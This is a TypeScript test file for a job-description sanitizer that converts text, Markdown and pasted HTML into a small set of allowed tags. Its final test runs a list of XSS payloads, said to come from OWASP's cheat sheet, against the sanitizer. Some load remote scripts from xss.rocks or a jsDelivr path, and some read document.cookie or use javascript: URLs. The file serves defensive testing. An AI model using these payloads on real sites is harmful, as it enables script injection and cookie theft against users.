import { expect, test } from "vitest";
import { readDescription } from "./description.js";

const LONG = "Vous rejoignez une équipe de quatre personnes qui aime le travail bien fait.";

/** Every tag an answer may hold, written exactly so. */
const KEPT_TAG =
  /^<(?:\/?(?:b|i|em|strong|p|ul|ol|li)|br|\/a|a href="(?:https?:|mailto:)[^"<>]*" rel="nofollow noopener")>$/;

const tagsOf = (html: string) => html.match(/<[^>]*>?/g) ?? [];

test("a text's blank lines part its paragraphs, and its signs stay signs", () => {
  expect(readDescription(`Salaire < SMIC & "co"\nfin.\n\n${LONG}`)).toEqual({
    description: `Salaire < SMIC & "co"\nfin.\n\n${LONG}`,
    descriptionHtml: `<p>Salaire &lt; SMIC &amp; &quot;co&quot;<br>fin.</p><p>${LONG}</p>`,
  });
});

test("Markdown becomes the kept tags, its headings paragraphs, and the plain text reads as written", () => {
  const { description, descriptionHtml } = readDescription(
    `# Le poste\n\n**Équipe** de *quatre*, voir <https://exemple.fr>.\n\n- React\n- Node.js & SQL\n\n1. CV\n2. Entretien`,
    "markdown",
  );
  expect(descriptionHtml.replace(/\n/g, "")).toBe(
    '<p>Le poste</p><p><strong>Équipe</strong> de <em>quatre</em>, voir <a href="https://exemple.fr/" rel="nofollow noopener">https://exemple.fr</a>.</p><ul><li>React</li><li>Node.js &amp; SQL</li></ul><ol><li>CV</li><li>Entretien</li></ol>',
  );
  expect(description).toBe(
    "Le poste\n\nÉquipe de quatre, voir https://exemple.fr.\n\n- React\n- Node.js & SQL\n\n- CV\n- Entretien",
  );
});

test("what an office suite pastes keeps its words apart, without its tags", () => {
  const pasted = `<div class="MsoNormal" style="mso:1"><div><font face="Arial">Une équipe</font></div><div><ul><li><span>React</span></li></ul></div></div><table><tr><td>Rythme</td><td>1 semaine</td></tr></table><!-- x --><o:p>&nbsp;</o:p>`;
  const { description, descriptionHtml } = readDescription(pasted, "html");
  expect(description.replace(/\s+/g, " ")).toBe("Une équipe - React Rythme 1 semaine");
  expect(tagsOf(descriptionHtml)).toEqual(["<p>", "</p>", "<ul>", "<li>", "</li>", "</ul>", "<p>", "</p>"]);
});

test.each(["text", "html", "markdown"] as const)(
  "the form given in answers, sent again as HTML, stays as it is (%s)",
  (format) => {
    const { descriptionHtml } = readDescription(`<p>${LONG} & plus</p><ul><li>a</li></ul>`, format);
    expect(readDescription(descriptionHtml, "html").descriptionHtml).toBe(descriptionHtml);
  },
);

test("tags alone are not a description", () => {
  expect(() => readDescription(`<p>${"<br>".repeat(20)}</p>`, "html")).toThrow("Give at least 30 characters");
});

test.each(["> ", "- ", "1. ", "*a ", "[", "<p>", "<ul><li>", "<b>"])(
  "ten thousand characters of %j are read, or refused as a field",
  (nested) => {
    for (const format of ["markdown", "html"] as const) {
      try {
        readDescription(nested.repeat(10_000 / nested.length), format);
      } catch (error) {
        expect(error).toMatchObject({ code: "validation_failed", errors: [{ pointer: "/description" }] });
      }
    }
  },
);

// OWASP's XSS Filter Evasion Cheat Sheet, and the mutations that sanitizers fell for; checked 2026-11-22.
const VECTORS = [
  "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
  "<script>alert('XSS')</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<SCRIPT>alert('XSS');//\\<</SCRIPT>",
  "<SCRIPT/XSS SRC='http://xss.rocks/xss.js'></SCRIPT>",
  "<SCRIPT SRC=//xss.rocks/.j>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  "<BODY ONLOAD=alert('XSS')>",
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  "<svg/onload=alert('XSS')>",
  "<svg><script>alert&#40;1&#41;</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zy8+"></EMBED>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
  "<p onclick=alert(1) style=color:red class=x id=y>x</p>",
  "<b onmouseover=alert(1)>x</b>",
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  "<a href=\"javascript:alert('XSS')\">x</a>",
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#14;  javascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//xss.rocks/">x</a>',
  '<a href="/v1/offers">x</a>',
  '<a href="https://x.example/&quot;onclick=&quot;alert(1)">x</a>',
  '<a href="https://x.example/" target="_top" ping="https://spy.example" onclick=alert(1)>x</a>',
  '<a href="https://user:pass@x.example/<script>">x</a>',
  "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
  "[x]: javascript:alert(1)\n[x]",
  "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
  "<template><script>alert(1)</script></template>",
  "<textarea><script>alert(1)</script></textarea>",
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml version="1.0"?><script>alert(1)</script>',
  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
];

test.each(VECTORS)("%s leaves nothing but the kept tags, whichever the format", (vector) => {
  for (const format of ["html", "markdown", "text"] as const) {
    const { descriptionHtml } = readDescription(`${LONG}\n\n${vector}\n\n${LONG}`, format);
    expect(tagsOf(descriptionHtml).filter((tag) => !KEPT_TAG.test(tag))).toEqual([]);
    expect(descriptionHtml).toContain(LONG);
  }
});
